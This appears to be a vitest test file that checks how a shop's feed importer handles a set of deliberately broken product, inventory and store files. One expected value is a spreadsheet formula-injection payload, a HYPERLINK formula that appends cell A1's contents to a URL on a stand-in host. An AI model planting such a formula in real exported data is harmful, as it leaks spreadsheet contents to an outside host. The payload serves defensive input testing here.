import { cp, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { existsSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { shopHash } from '#tests/support/catalogue/feed-files.ts'
import { testDatabase, type TestDatabase } from '#tests/support/database/database.ts'
import { folderMediaStore } from '#platform/media-store.ts'
import { importFeed, silentReporter, type FeedKind, type ImportContext } from './index.ts'
import { temporaryRoot } from '#tests/support/run/temporary-root.ts'

// The chain's own broken files, which are not in this repository.
const feeds = resolve(process.env['HENT_CHAIN_FEEDS'] ?? '../shared/data/feeds')
const present = existsSync(join(feeds, 'dirty'))
if (!present)
  console.warn(
    `Skipped: the chain's broken feeds are not in ${feeds}; set HENT_CHAIN_FEEDS to the folder that holds chain/ and dirty/`,
  )

const asOf = new Date('2026-11-21T06:00:00+01:00')

/**
 * The expected result of each file. `refused`: the place of each problem, as `line column`. `taken`: `nothing changes`,
 * or the name of an article after the import.
 */
const table: Record<string, { kind?: FeedKind; refused?: string[]; taken?: string }> = {
  '01_missing_columns.tsv': { refused: ['1'] },
  '02_broken_price.tsv': { refused: ['2 pant'] },
  '03_duplicate_sku.tsv': { refused: ['2 id', '5 id', '14 id'] },
  '04_wrong_gtin.tsv': { refused: [2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12].map(line => `${line} gtin`) },
  '05a_bom_crlf.tsv': { taken: 'nothing changes' },
  '05b_latin1_crlf.tsv': { taken: 'nothing changes' },
  '05c_bom_but_latin1.tsv': { refused: ['2'] },
  '06_inventory_unknown_sku.tsv': { kind: 'inventory', refused: ['22 id', '23 store_code'] },
  '07_inventory_bad_quantity.tsv': {
    kind: 'inventory',
    refused: [2, 3, 4, 5, 6]
      .map(line => `${line} id`)
      .concat([22, 23, 24, 25, 26].flatMap(line => [`${line} id`, `${line} quantity`])),
  },
  '08_inventory_truncated.tsv.gz': { kind: 'inventory', refused: [''] },
  '09a_empty.tsv': { refused: [''] },
  '09b_header_only.tsv': { refused: [''] },
  '10_single_line_2mb.tsv': { refused: ['1'] },
  '11_formula_title.tsv': { taken: '=HYPERLINK("http://eksempel.example/?"&A1;"Klikk")' },
  '12_html_script.tsv': { refused: ['7 image_link', '8 image_link'] },
  '13_emoji_nul_title.tsv': { refused: ['3 title', '4 title'] },
  '14_ragged_rows.tsv': { refused: ['2', '3'] },
  '15_bad_values.tsv': {
    refused: [
      '4 product_type',
      '5 gender',
      '6 age_group',
      '7 color_hex',
      '8 visible_on_web',
      '9 sale_price',
      '10 sale_price_effective_date',
      '11 item_group_id',
    ],
  },
  '16_stores_bad.csv': {
    kind: 'stores',
    refused: ['2 store_code', '3 store_code', '4 latitude', '5 latitude', '8 org_no', '9 postcode'],
  },
}

describe.skipIf(!present)("the chain's broken feeds", () => {
  let database: TestDatabase
  let folder: string
  let context: ImportContext

  /** The clean chain, reduced to the rows that the broken files are based on. */
  beforeAll(async () => {
    database = await testDatabase()
    folder = await mkdtemp(join(await temporaryRoot(), 'hent-dirty-'))
    await cp(join(feeds, 'dirty'), folder, { recursive: true })
    context = {
      db: database.db,
      media: folderMediaStore(join(folder, 'media')),
      workFolder: join(folder, 'work'),
      demoLoaded: false,
      report: silentReporter,
    }
    const lines = (await readFile(join(feeds, 'chain', 'products.tsv'), 'utf8')).split('\n')
    const [header, ...rows] = lines as [string, ...string[]]
    const inventory = (await readFile(join(feeds, 'dirty', '07_inventory_bad_quantity.tsv'), 'utf8')).split('\n')
    const skus = new Set(inventory.map(line => line.split('\t')[1]))
    // The broken product files are based on the first twelve rows; the broken inventories also count others.
    const kept = rows.slice(0, 12)
    const counted = rows.slice(12).filter(row => skus.has(row.split('\t')[0]))
    const take = async (kind: FeedKind, name: string, content: string[]) => {
      await writeFile(join(folder, name), `${content.join('\n')}\n`)
      const outcome = await importFeed(kind, [join(folder, name)], { asOf, allowRemoval: true }, context)
      expect({ name, ok: outcome.ok, errors: outcome.problems.errors }).toEqual({ name, ok: true, errors: [] })
    }
    const images = [...kept, ...counted]
      .flatMap(row => row.split('\t').filter(cell => cell.startsWith('photos/')))
      .flatMap(cell => cell.split(','))
    for (const image of images) {
      await mkdir(join(folder, image, '..'), { recursive: true })
      await cp(join(feeds, 'chain', image), join(folder, image))
    }
    await importFeed('stores', [join(feeds, 'chain', 'stores.csv')], {}, context)
    await take('products', 'clean-all.tsv', [header, ...kept, ...counted])
    await take('inventory', 'clean-inventory.tsv', inventory.slice(0, 21))
    await take('products', 'clean.tsv', [header, ...kept])
  }, 120_000)
  afterAll(async () => {
    await database?.close()
    if (folder) await rm(folder, { recursive: true, force: true, maxRetries: 10 })
  })

  test('the folder contains exactly the files in the table', async () => {
    expect((await readdir(join(feeds, 'dirty'))).sort()).toEqual(Object.keys(table).sort())
  })

  test.each(Object.entries(table))(
    '%s gives the result in the table',
    async (name, { kind = 'products', refused, taken }) => {
      const before = await shopHash(database)
      const outcome = await importFeed(kind, [join(folder, name)], { asOf, allowRemoval: true }, context)
      if (refused) {
        expect(outcome).toMatchObject({ ok: false, reason: 'problems' })
        expect(positionsIn(outcome.problems.errors)).toEqual([...refused].sort())
        expect(await shopHash(database)).toBe(before)
      } else if (taken === 'nothing changes') {
        expect(outcome).toMatchObject({ ok: true, rows: 12 })
        expect(await shopHash(database)).toBe(before)
      } else {
        expect(outcome).toMatchObject({ ok: true, rows: 12 })
        const { rows } = await database.pool.query('select 1 from catalogue.article where name = $1', [taken])
        expect(rows).toHaveLength(1)
        await importFeed('products', [join(folder, 'clean.tsv')], {}, context)
      }
    },
  )
})

const positionsIn = (errors: readonly { line: number | null; column: string | null }[]) =>
  errors.map(({ line, column }) => [line, column].filter(part => part !== null).join(' ')).sort()
